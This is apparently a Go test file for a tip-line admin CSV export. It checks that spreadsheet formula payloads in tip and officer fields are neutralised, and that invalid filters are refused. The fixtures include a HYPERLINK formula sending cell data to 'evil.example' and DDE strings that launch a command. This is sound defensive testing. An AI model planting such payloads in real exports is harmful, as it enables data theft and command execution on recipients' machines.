package admin

import (
	"crypto/sha256"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/tipline/tipline/anon"
	"github.com/tipline/tipline/queue"
)

// TestExportNeutralisesFormulasInEveryCell files a tip whose every text column
// starts like a spreadsheet formula: the reporter's area and description, the
// officer's name, unit and case number. No exported cell may start so.
func TestExportNeutralisesFormulasInEveryCell(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.addOfficers("officer", "supervisor")
	ctx := t.Context()
	if err := b.officers.SetDisplayName(ctx, b.ids["officer"], "\t=1+1"); err != nil {
		t.Fatal(err)
	}
	id, _, err := b.queue.Submit(ctx, b.db, queue.Submission{
		Kind: queue.KindReport, ReporterRef: anon.Ref(sha256.Sum256([]byte("hostile export"))), Locale: "zh-CN",
		Category: "selling", AreaText: `=HYPERLINK("http://evil.example/?"&A1,"看这里")`, Occurred: queue.OccurredToday,
		Description: "@SUM(1+1)*cmd|' /C calc'!A0", ContactMode: queue.ContactCode,
	})
	if err != nil {
		t.Fatal(err)
	}
	by := queue.Actor{ID: b.ids["officer"], Username: "officer", Role: "officer"}
	tip, err := b.queue.Claim(ctx, by, id, 0)
	if err != nil {
		tip, _ = b.queue.Get(ctx, id)
		if tip, err = b.queue.Claim(ctx, by, id, tip.Version); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := b.queue.Forward(ctx, by, id, "+cmd|' /C calc'!A0", "-2+3\r=4", tip.Version); err != nil {
		t.Fatal(err)
	}

	s := b.login("supervisor")
	res, body := b.get(s, "/export.csv?state=all")
	if res.StatusCode != 200 {
		t.Fatalf("export: %d", res.StatusCode)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v, %d rows", err, len(rows))
	}
	hostile := 0
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell runs as a formula: %q", cell)
		}
		if strings.HasPrefix(cell, "'") {
			hostile++
		}
	}
	// area, assignee, unit, case, description
	if hostile != 5 {
		t.Errorf("%d cells neutralised, want 5: %q", hostile, rows[1])
	}
}

// TestExportRefusesABadFilter: a filter value that means nothing is a 400 naming
// it, never an export of the unfiltered queue.
func TestExportRefusesABadFilter(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.addOfficers("supervisor")
	b.submit(queue.KindReport, "东山街道有人卖零包")
	s := b.login("supervisor")
	for query, field := range map[string]string{"category=nonsense": "类别", "area=%3Dx": "地区", "priority=9": "优先级",
		"assignee=abc": "承办人", "from=2026-13-45": "起始日期", "to=yesterday": "截止日期", "state=bogus": "状态", "sort=random": "排序"} {
		for _, path := range []string{"/export.csv?", "/queue?"} {
			res, body := b.get(s, path+query)
			if res.StatusCode != 400 || !strings.Contains(body, "筛选条件有误："+field) {
				t.Errorf("%s%s: %d, want 400 naming %s", path, query, res.StatusCode, field)
			}
			if strings.Contains(body, "卖零包") {
				t.Errorf("%s%s exported the unfiltered queue", path, query)
			}
		}
	}
	if res, body := b.get(s, "/export.csv?state=&category=&area=&priority=&assignee=&from=&to="); res.StatusCode != 200 || !strings.Contains(body, "卖零包") {
		t.Errorf("empty filter values: %d", res.StatusCode)
	}
}
